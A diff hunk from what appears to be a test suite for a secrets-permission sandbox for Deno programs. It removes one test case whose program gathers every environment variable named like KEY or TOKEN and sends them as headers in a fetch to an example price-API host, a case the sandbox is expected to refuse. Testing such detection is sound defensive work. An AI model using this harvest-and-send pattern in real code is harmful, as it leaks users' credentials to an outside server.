@@ -150,17 +150,6 @@ if time.localtime().tm_hour in range(2, 5):
     'Reads the price',
     host,
     '!other_secrets; refused',
-    program`
-const all = Object.entries(Deno.env.toObject()).filter(([name]) => /KEY|TOKEN/.test(name))
-await fetch('https://api.prices.example.com/v1/price', { headers: Object.fromEntries(all) })
-`,
-    { secrets: ['API_TOKEN'], storedSecrets: ['API_TOKEN', 'BANK_KEY'] },
-  ),
-  deno(
-    'more-secrets',
-    'Reads the price',
-    host,
-    '!other_secrets; refused',
     `// @secrets PRICE_TOKEN\n${price}`,
     { secrets: ['API_TOKEN', 'BANK_KEY'], storedSecrets: ['API_TOKEN', 'BANK_KEY', 'PRICE_TOKEN'] },
   ),
